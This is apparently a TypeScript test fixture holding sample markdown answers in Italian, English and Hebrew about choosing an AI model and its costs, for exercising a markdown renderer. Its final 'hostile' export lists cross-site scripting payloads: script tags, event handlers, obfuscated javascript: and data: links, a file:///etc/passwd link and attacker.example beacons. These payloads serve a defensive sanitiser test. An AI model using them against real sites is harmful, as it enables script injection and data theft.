import type { Locale } from "../../i18n/index.ts";

/** Answers for stories and tests. */
interface Answers {
  /** Paragraphs, emphasis, lists, quote and links under headings of several levels. */
  text: string;
  /** Fenced and inline code, a formula. */
  code: string;
  /** A table that fits, and one that is wider than the text. */
  tables: string;
  /** Ends within fenced code. */
  unfinished: string;
  /** Words and addresses that are longer than a line. */
  longWords: string;
}

const script = `import { readFile } from "node:fs/promises";

export async function total(path: string): Promise<number> {
  const rows = JSON.parse(await readFile(path, "utf8")) as { cost: number }[];
  return rows.reduce((sum, { cost }) => sum + cost, 0); // euro, before taxes and after the discount of the plan
}`;

const address = `https://example.com/${"reports/2026/november/".repeat(6)}costs.csv`;
const word = "precipitevolissimevolmente".repeat(4);

export const answers: Record<Locale, Answers> = {
  it: {
    text: `## Come scegliere un modello

Parti dal **compito**, non dal prezzo: un modello piccolo basta per *riassumere*, uno grande serve per ~~tutto~~ ragionare su più passaggi. I dettagli sono nella [guida](https://example.com/guide).

### Tre domande

1. Quanto è lungo il testo?
2. Serve una risposta esatta?

   Se sì, chiedi al modello di citare la fonte.
3. Chi la legge?
   - un collega
   - un cliente

> Una risposta veloce e sbagliata costa più di una lenta.
>
> > Vale anche per le stime.

> [!NOTE]
> I prezzi cambiano: controlla la data del listino.

### Da fare

- [x] Raccogliere dieci richieste vere
- [ ] Confrontare due modelli
- [ ] Scrivere a [anna@example.com](mailto:anna@example.com)

---

![Grafico dei costi](https://example.com/costs.png)`,
    code: `Somma la colonna \`cost\` con questa funzione:

\`\`\`ts
${script}
\`\`\`

Poi eseguila:

\`\`\`
node total.ts
\`\`\`

Il costo medio è $\\bar{c} = \\frac{1}{n}\\sum_{i=1}^{n} c_i$, cioè \\(c_{tot} / n\\).`,
    tables: `| Modello | Costo per 1.000 token | Adatto a |
| :-- | --: | :-: |
| Piccolo | 0,0002 € | riassunti |
| Grande | 0,0150 € | ragionamenti |

| Mese | Richieste | Token in ingresso | Token in uscita | Costo stimato | Costo effettivo | Differenza |
| :-- | --: | --: | --: | --: | --: | --: |
| Settembre | 1.204 | 812.400 | 402.117 | 12,10 € | 11,87 € | -0,23 € |
| Ottobre | 1.377 | 903.218 | 455.020 | 13,60 € | 13,92 € | 0,32 € |`,
    unfinished: `Ecco la funzione:\n\n\`\`\`ts\nexport const sum = (numbers: number[]) =>\n  numbers.reduce((`,
    longWords: `## ${word}\n\n${word} e [${address}](${address})\n\n- ${word}\n\n\`${word}\`\n\n| Nome | Valore |\n| - | - |\n| ${word} | 1 |`,
  },
  en: {
    text: `## How to choose a model

Begin with the **task**, not with the price: a small model is enough to *summarise*, a large one is needed for ~~everything~~ several steps of reasoning. Details are in the [guide](https://example.com/guide).

### Three questions

1. How long is the text?
2. Must the answer be exact?

   If so, ask the model to quote its source.
3. Who reads it?
   - a colleague
   - a customer

> An answer that is fast and wrong costs more than a slow one.
>
> > The same holds for estimates.

> [!NOTE]
> Prices change: check the date of the price list.

### To do

- [x] Collect ten real requests
- [ ] Compare two models
- [ ] Write to [anna@example.com](mailto:anna@example.com)

---

![Chart of the costs](https://example.com/costs.png)`,
    code: `Add up the column \`cost\` with this function:

\`\`\`ts
${script}
\`\`\`

Then run it:

\`\`\`
node total.ts
\`\`\`

The mean cost is $\\bar{c} = \\frac{1}{n}\\sum_{i=1}^{n} c_i$, which is \\(c_{tot} / n\\).`,
    tables: `| Model | Cost per 1,000 tokens | Good for |
| :-- | --: | :-: |
| Small | €0.0002 | summaries |
| Large | €0.0150 | reasoning |

| Month | Requests | Input tokens | Output tokens | Estimated cost | Actual cost | Difference |
| :-- | --: | --: | --: | --: | --: | --: |
| September | 1,204 | 812,400 | 402,117 | €12.10 | €11.87 | €-0.23 |
| October | 1,377 | 903,218 | 455,020 | €13.60 | €13.92 | €0.32 |`,
    unfinished: `Here is the function:\n\n\`\`\`ts\nexport const sum = (numbers: number[]) =>\n  numbers.reduce((`,
    longWords: `## ${word}\n\n${word} and [${address}](${address})\n\n- ${word}\n\n\`${word}\`\n\n| Name | Value |\n| - | - |\n| ${word} | 1 |`,
  },
};

/** Text from right to left, with a word and code that run the other way. */
export const hebrew = `## איך בוחרים מודל

מתחילים מן **המשימה**, לא מן המחיר. הפקודה \`regia whoami\` מראה מי מחובר.

1. כמה ארוך הטקסט?
2. מי קורא אותו?
   - [x] עמית
   - [ ] לקוח

> תשובה מהירה ושגויה עולה יותר.

| דגם | מחיר |
| :-- | --: |
| קטן | 12 |

\`\`\`sh
regia models
\`\`\``;

/** What must neither run, nor load anything, nor be a link. Every line must be seen as text. */
export const hostile = `<script>window.ran = "script"</script>

<img src="https://attacker.example/pixel.png" onerror="window.ran = 'handler'">

<iframe src="https://attacker.example/frame"></iframe><style>body { display: none }</style>

<a href="javascript:window.ran = 'html link'" onclick="window.ran = 'click'">html</a>

[script](javascript:window.ran='link') [JaVa](JaVaScRiPt:window.ran='case') [encoded](&#106;avascript:window.ran='entity')

[data](data:text/html,<script>window.ran='data'</script>) [file](file:///etc/passwd) [local](/admin) [anchor](#top) [same](//attacker.example)

![pixel](https://attacker.example/pixel.png?secret=1) ![inline](data:image/svg+xml,<svg onload=alert(1)>)

[reference][1] <javascript:window.ran='auto'>

[1]: javascript:window.ran='reference'`;
